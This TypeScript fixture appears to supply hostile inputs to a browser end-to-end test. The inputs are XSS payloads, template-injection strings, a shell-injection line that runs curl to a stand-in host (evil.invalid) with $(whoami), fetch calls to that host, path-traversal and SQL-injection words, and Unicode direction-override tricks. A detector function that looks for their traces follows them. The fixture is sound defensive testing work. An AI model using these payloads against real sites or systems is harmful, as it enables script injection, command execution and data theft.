// Texts that mean to be more than text. Whatever they would do leaves a trace that e2e/hostile.spec.ts looks for: a dialog,
// a request to another host, an element or attribute with "hostile" in it, or the variable window.hostile.

const act = "window.hostile=1;alert(1);fetch('https://evil.invalid/x')";

/** Markup and links, by what they try. */
export const markup: Record<string, string> = {
  script: `<script data-hostile>${act}</script>`,
  unclosed: `"><script data-hostile src="https://evil.invalid/a.js">`,
  image: `<img data-hostile src="https://evil.invalid/p.png" onerror="${act}">`,
  bare: `<img data-hostile src=x onerror=${act}//`,
  vector: `<svg data-hostile onload="${act}"><animate onbegin="${act}" attributeName=x dur=1s></svg>`,
  frame: `<iframe data-hostile srcdoc="<script>parent.hostile=1</script>"></iframe>`,
  object: `<object data-hostile data="data:text/html,<script>parent.hostile=1</script>"></object>`,
  style: `<style data-hostile>*{background:url(https://evil.invalid/s.png)}</style>`,
  refresh: `<meta data-hostile http-equiv="refresh" content="0;url=https://evil.invalid/">`,
  base: `<base data-hostile href="https://evil.invalid/">`,
  form: `<form data-hostile action="https://evil.invalid/"><button autofocus onfocus="${act}">Send</button></form>`,
  details: `<details data-hostile open ontoggle="${act}"><summary>x</summary></details>`,
  element: `<hostile-element data-hostile style="position:fixed;inset:0;background:red">over all</hostile-element>`,
  breakout: `</p></td></tr></table></main></title></textarea></script><h1 data-hostile>hostile</h1>`,
  attribute: `" onmouseover="${act}" data-hostile="' onfocus='${act}' x='`,
  comment: `--><img data-hostile src=x onerror="${act}"><!--`,
  cdata: `]]><img data-hostile src=x onerror="${act}">`,
  entities: `&lt;img data-hostile src=x onerror=&quot;${act}&quot;&gt; &#x3c;b data-hostile&#x3e;`,
  mutation: `<math><mtext><table><mglyph><style><!--</style><img data-hostile title="--&gt;&lt;img src=1 onerror=${act}&gt;">`,
  javascript: `javascript:${act}`,
  javascriptOdd: `\tjava\nscript\u0001:${act}`,
  data: `data:text/html;base64,PHNjcmlwdD5wYXJlbnQuaG9zdGlsZT0xPC9zY3JpcHQ+`,
  markdown: `[click](javascript:${act}) ![p](https://evil.invalid/m.png) <https://evil.invalid/>`,
  shell: "`; curl https://evil.invalid/$(whoami) #'\"",
};

/** Syntax of templates, of Svelte first. */
export const templates: Record<string, string> = {
  svelte: `{@html "<img data-hostile src=x onerror=alert(1)>"}{#if true}{${act}}{/if}{@const x = alert(1)}`,
  braces: `{{constructor.constructor("alert(1)")()}} {{7*7}}`,
  dollar: "${alert(1)} #{7*7} [[${7*7}]]",
  erb: `<%= alert(1) %> {% raw %}{{ x }}{% endraw %}`,
  vue: `<div data-hostile v-html="'<img src=x onerror=alert(1)>'" x-data x-init="alert(1)" :href="'javascript:alert(1)'"></div>`,
};

/** What looks like something else, or like nothing. */
export const odd: Record<string, string> = {
  override: "invoice \u202egnp.exe\u202c end",
  unclosedOverride: "\u202e\u2067all that follows is turned",
  isolates: "\u2066\u2067\u2068a\u2069b",
  hebrew: "שלום hostile 123 (עולם)",
  arabic: "مرحبا <b data-hostile>بالعالم</b> 5",
  zeroWidth: "pass\u200bword\u200c\u200d\u2060\ufeff\u00ad",
  combining: "Z\u0351\u036b\u0343\u036a\u0302".repeat(8) + "a" + "\u0300".repeat(60) + "lgo",
  emoji: "👩‍👩‍👧‍👦🏳️‍🌈🇩🇪👍🏿" + "❤️‍🔥".repeat(10),
  control: "\u0001\u0007\u001b[31mred\u001b[0m\u0085\u2028\u2029end",
  tags: "a\u{e0041}\u{e0042}\u{e007f}b",
  tall: "﷽".repeat(12) + "𒐫".repeat(6),
  lines: "first\r\nsecond\n\n\n\nfifth\tand a tab",
};

/** Words that a program may take for a value. */
const values = ["null", "undefined", "NaN", "true", "0", "-1", "[object Object]", "__proto__", "constructor", "toString", "1e999", "../../etc/passwd", "%00%2e%2e%2f", "' OR 1=1 --"];

/** An id that a caller gives its request: visible characters of ASCII and no space. */
export const requestId = `<img/data-hostile/src=x/onerror="alert(1)">`;

export const texts: readonly string[] = [...Object.values(markup), ...Object.values(templates), ...Object.values(odd)];
export const words: readonly string[] = values;
/** A word that nothing breaks. */
export const long = (length: number): string => "hostile".padEnd(length, "x");

/** What a hostile text has become beside text. It runs in the page, and so uses nothing from here. */
export function traces(): string[] {
  const found: string[] = [];
  const say = (what: string, element: Element): void => void found.push(`${what}: ${element.outerHTML.slice(0, 160)}`);
  for (const e of document.querySelectorAll("[data-hostile], hostile-element, iframe, object, embed, base, meta[http-equiv]")) say("an element", e);
  for (const e of document.querySelectorAll("*"))
    for (const { name, value } of e.attributes) {
      if (name.startsWith("on") || name === "srcdoc") say(`the attribute ${name}`, e);
      if (["href", "src", "action", "formaction", "xlink:href", "data"].includes(name)) {
        const url = new URL(value, location.href);
        if (!["http:", "https:", "blob:", "mailto:"].includes(url.protocol)) say(`a link of ${url.protocol}`, e);
        if (name !== "href" && url.origin !== location.origin) say("something from elsewhere", e);
      }
    }
  if ("hostile" in window) found.push("a script has run");
  // An override of direction must not reach what stands beside it: between them and it there is an isolation.
  const texts = document.createTreeWalker(document.body, NodeFilter.SHOW_TEXT);
  for (let text = texts.nextNode(); text; text = texts.nextNode()) {
    if (!/[\u202a-\u202e\u2066-\u2069]/.test(text.textContent ?? "")) continue;
    let e = text.parentElement;
    if (!e || e.closest("option, title, script, style, textarea")) continue;
    for (; e; e = e.parentElement) {
      const { display, unicodeBidi } = getComputedStyle(e);
      if (unicodeBidi === "plaintext" || (display.startsWith("inline") && unicodeBidi !== "normal")) break;
      if (!display.startsWith("inline") && display !== "contents") {
        if (e.textContent?.trim() !== text.textContent?.trim()) say("a direction that reaches other text", e);
        break;
      }
    }
  }
  return found;
}
